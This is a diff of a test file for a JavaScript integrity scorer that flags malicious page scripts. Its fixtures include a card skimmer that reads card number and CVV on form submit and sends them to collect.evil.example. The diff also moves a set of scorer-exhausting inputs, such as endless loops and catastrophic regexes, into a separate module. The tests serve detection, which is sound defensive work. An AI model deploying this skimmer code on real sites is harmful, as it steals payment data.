@@ -3,7 +3,11 @@ import { describe, expect, test } from 'vitest'
 import { beautify } from './beautify.ts'
 import { MALICIOUS_BELOW, type ScriptVerdict, scoreScript } from './index.ts'
 import { MAX_SCORED_LENGTH, MAX_WHOLE_LENGTH } from './limits.ts'
+import { BOUNDED_WORK } from './bounded-work.cases.ts'
+import { DECODED_PAGE_CASES, HONEST_DECODED_PAGES } from './decoded-pages.cases.ts'
+import { HIDDEN_FRAME_CASES, HONEST_FRAME_CASES } from './hidden-frames.cases.ts'
 import { HONEST_CASES } from './honest-scripts.cases.ts'
+import { HONEST_LIBRARY_CASES, LIBRARY_CASES } from './library-scripts.cases.ts'
 import { PROBED_CASES, PROBED_HONEST_CASES } from './probed-scripts.cases.ts'
 import { SCRIPT_CASES, SKIMMER } from './score-script.cases.ts'
 import { HONEST_VALUE_PATH_CASES, VALUE_PATH_CASES } from './value-paths.cases.ts'
@@ -35,36 +39,44 @@ function expectWhole({ scores, unscored, reasons }: ScriptVerdict): void {
   }
 }
 
-test.each([...SCRIPT_CASES, ...PROBED_CASES, ...VALUE_PATH_CASES])(
-  '$name',
-  ({ source, head: scriptClass }) => {
-    const verdict = scoreScript(source)
-    expectWhole(verdict)
-    const integrity = verdict.scores?.js_integrity_score ?? 0
-    if (scriptClass === null) {
-      expect(integrity).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
-      expect(verdict.reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
-    } else {
-      expect(verdict.unscored).toBeNull()
-      expect(integrity).toBeLessThan(MALICIOUS_BELOW)
-      expect(verdict.scores?.[`${scriptClass}_score`]).toBe(integrity)
-      // Every verdict has a reason.
-      expect(verdict.reasons.some(({ score }) => score === `${scriptClass}_score`)).toBe(true)
-    }
-  },
-)
+test.each([
+  ...SCRIPT_CASES,
+  ...PROBED_CASES,
+  ...VALUE_PATH_CASES,
+  ...DECODED_PAGE_CASES,
+  ...HIDDEN_FRAME_CASES,
+  ...LIBRARY_CASES,
+])('$name', ({ source, head: scriptClass }) => {
+  const verdict = scoreScript(source)
+  expectWhole(verdict)
+  const integrity = verdict.scores?.js_integrity_score ?? 0
+  if (scriptClass === null) {
+    expect(integrity).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
+    expect(verdict.reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
+  } else {
+    expect(verdict.unscored).toBeNull()
+    expect(integrity).toBeLessThan(MALICIOUS_BELOW)
+    expect(verdict.scores?.[`${scriptClass}_score`]).toBe(integrity)
+    // Every verdict has a reason.
+    expect(verdict.reasons.some(({ score }) => score === `${scriptClass}_score`)).toBe(true)
+  }
+})
 
-test.each([...HONEST_CASES, ...PROBED_HONEST_CASES, ...HONEST_VALUE_PATH_CASES])(
-  'honest: $name',
-  ({ source, sign }) => {
-    const { scores, reasons } = scoreScript(source)
-    expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
-    expect(reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
-    expect(reasons.filter(({ kind }) => kind === 'sign').map(({ name }) => name)).toEqual(
-      sign === undefined ? [] : [sign],
-    )
-  },
-)
+test.each([
+  ...HONEST_CASES,
+  ...PROBED_HONEST_CASES,
+  ...HONEST_VALUE_PATH_CASES,
+  ...HONEST_DECODED_PAGES,
+  ...HONEST_FRAME_CASES,
+  ...HONEST_LIBRARY_CASES,
+])('honest: $name', ({ source, sign }) => {
+  const { scores, reasons } = scoreScript(source)
+  expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
+  expect(reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
+  expect(reasons.filter(({ kind }) => kind === 'sign').map(({ name }) => name)).toEqual(
+    sign === undefined ? [] : [sign],
+  )
+})
 
 const LIBRARY = `;(function(a){a.plus=function(b,c){if(b>c){return b+c}return c-b};a.each=function(b,c){for(var i=0;i<b.length;i++){c(b[i],i)}};a.name='plus'})(window.lib={});\n`
 
@@ -283,74 +295,15 @@ test.each([
   expect(verdict.unscored).toBe(unscored)
 })
 
-/** CPU time of scripts that keep the scorer as busy as they can; what is not counted as steps takes minutes. */
-const MAX_SECONDS = 3
+/** CPU time that a script may take on an idle machine. */
+const MAX_SECONDS_OF_SCRIPT = 1.5
+/**
+ * CPU time of scripts that keep the scorer as busy as they can. Tests run beside others, which take caches and half of a core. What is
+ * not counted as steps takes minutes.
+ */
+const MAX_SECONDS = 2 * MAX_SECONDS_OF_SCRIPT
 
-test.each([
-  ['brackets within brackets', '['.repeat(100_000)],
-  ['whole brackets within brackets', `${'['.repeat(20_000)}${']'.repeat(20_000)}`],
-  ['a long sum', `x=${'a+'.repeat(60_000)}a`],
-  ['a loop without end', 'for(;;){}'],
-  ['a loop of loops', 'while(1){while(1){a+=a}}'],
-  ['calls without end', 'function f(){f();f()}f()'],
-  ['a text that doubles', `var a='x';for(;;)a+=a;`],
-  ['an array that grows', 'var a=[];for(;;)a.push(a)'],
-  ['an array in itself', 'var a=[];a[0]=a;x=a+"";new Image().src=a'],
-  ['code that evaluates itself', `var s="eval(s)";eval(s)`],
-  ['code that writes code', `var s='';for(var i=0;i<99;i++){s='eval('+JSON.stringify(s+i)+')';eval(s)}`],
-  ['a pattern that would not end', `'${'a'.repeat(5000)}'.replace(/(a+)+$/,'')`],
-  ['many handlers', `${'x.onclick=function(){x.onclick=function(){}};'.repeat(5000)}`],
-  [
-    'prototype names',
-    `var o={};o.__proto__.x=1;o.constructor.constructor('a')();({})['toString']();''.constructor()`,
-  ],
-  ['octets', String.fromCharCode(...Array.from({ length: 5000 }, (_, i) => i % 256))],
-  ['tags without end', '<script>'.repeat(20_000)],
-  ['tags that do not even begin', '<script '.repeat(37_000)],
-  ['quotes that nothing closes', '<a b="'.repeat(40_000)],
-  ['quotes before quotes', '"\\'.repeat(100_000)],
-  ['a long list as a text, again and again', `var a=[];for(var i=0;i<9999;i++)a.push(x);for(;;)b=a+''`],
-  ['lists of lists of lists as a text', `var a=[1,2,3,4,5,6,7,8,9];for(;;){a=[a,a,a,a,a,a,a,a];b=a+''}`],
-  [
-    'lists of one list put together',
-    `var a=Array(9).fill(1);for(;;){a=[a,a,a,a,a,a,a,a,a].flat();b=[a].flatMap(x=>a)}`,
-  ],
-  [
-    'a long text joined with itself',
-    `var s='${'x'.repeat(99_000)}',a=[];for(var i=0;i<9999;i++)a.push(s);b=a.join('');c=a.concat(x).join('')`,
-  ],
-  ['escapes, again and again', `var a='${'%41'.repeat(60_000)}';for(;;)unescape(a)`],
-  ['long texts for a stranger', `var a='${'ab'.repeat(99_000)}';for(var i=0;;i++)x(a+i)`],
-  ['long layers', `var a='${'a;'.repeat(99_000)}';for(var i=0;;i++)eval(a+i)`],
-  [
-    'a long list that may be returned, again and again',
-    `var a=[];for(var i=0;i<400;i++)a.push({v:window['x'+i]});function f(){if(window.q)return a;return window.z}for(;;)f()`,
-  ],
-  ['a generator without end', 'function*g(){while(1)yield*g()}for(;;)[...g()]'],
-  ['a promise for itself', 'var r,p=new Promise(f=>r=f);r(p);for(;;)p=p.then(()=>p.then(()=>p))'],
-  [
-    'getters that write their object as text',
-    `var o={};for(var i=0;i<30;i++)Object.defineProperty(o,'g'+i,{get(){return JSON.stringify(o)}});JSON.stringify(o)`,
-  ],
-  [
-    'a large object as JSON, again and again',
-    `var o={};for(var i=0;i<20000;i++)o['k'+i]=1;for(;;)JSON.stringify(o)`,
-  ],
-  [
-    'entries of a large object, again and again',
-    `var o={};for(var i=0;i<20000;i++)o['k'+i]=1;for(;;)Object.entries(o)`,
-  ],
-  [
-    'names of a large object, again and again',
-    `var o={};for(var i=0;i<20000;i++)o['k'+i]=1;for(;;)for(var k in o)break`,
-  ],
-  ['entries of a long list, again and again', `var a=[];for(var i=0;i<20000;i++)a[i]=i;for(;;)a.entries()`],
-  [
-    'a long list that generators yield',
-    `var a=[];for(var i=0;i<20000;i++)a[i]=i;function*g(n){yield*a;yield*a}for(var n=0;;)g(n++)`,
-  ],
-  ['many texts', `x=[${Array.from({ length: 30_000 }, (_, i) => `"t${i}"`).join()}]`],
-])('%s ends', (_, source) => {
+test.each(BOUNDED_WORK)('%s ends', (_, source) => {
   const start = process.cpuUsage()
   expectWhole(scoreScript(source))
   const { user, system } = process.cpuUsage(start)
@@ -358,6 +311,30 @@ test.each([
 })
 
 const CARD_SKIMMER = `document.querySelector('form').addEventListener('submit',function(){var n=document.querySelector('#card_number').value,c=document.querySelector('#cvv').value;new Image().src='https://collect.evil.example/g.php?d='+btoa(n+'|'+c)})`
+
+/** Library code of 360 KB in one line. */
+const LONG_LINE = Array.from({ length: 9000 }, (_, i) => `root.f${i}=function(a,b){return a+b*${i}};`).join(
+  '',
+)
+
+test.each([
+  ['a template within a template', 'var q=`${a?`x://${b}`:1}`;'],
+  ['a pattern behind a condition', 'if(a)/[/*]/.test(b);'],
+  ['a division behind braces', 'a={}/1;/* /*/;'],
+])('what looks like a comment in a long line hides nothing: %s', (_, code) => {
+  for (const source of [code + LONG_LINE + CARD_SKIMMER, `${code}${LONG_LINE}${CARD_SKIMMER}/*[*/`])
+    expect(scoreScript(source).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+})
+
+test('what looks like a template in a comment of a long script hides no part of a text', () => {
+  const sent = CARD_SKIMMER.replace(
+    /new Image.*$/u,
+    'fetch(`https://collect.evil.example/g.php?\n${btoa(n+c)}`)})',
+  )
+  const code = `var a=1,x={}/a//\`\n${sent}`
+  const source = `/*${'x'.repeat(310_000)}*/${code}`
+  expect(scoreScript(source).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+})
 
 test.each([
   ['match', `'${'a'.repeat(250_000)}'.match(/a+b/);`],
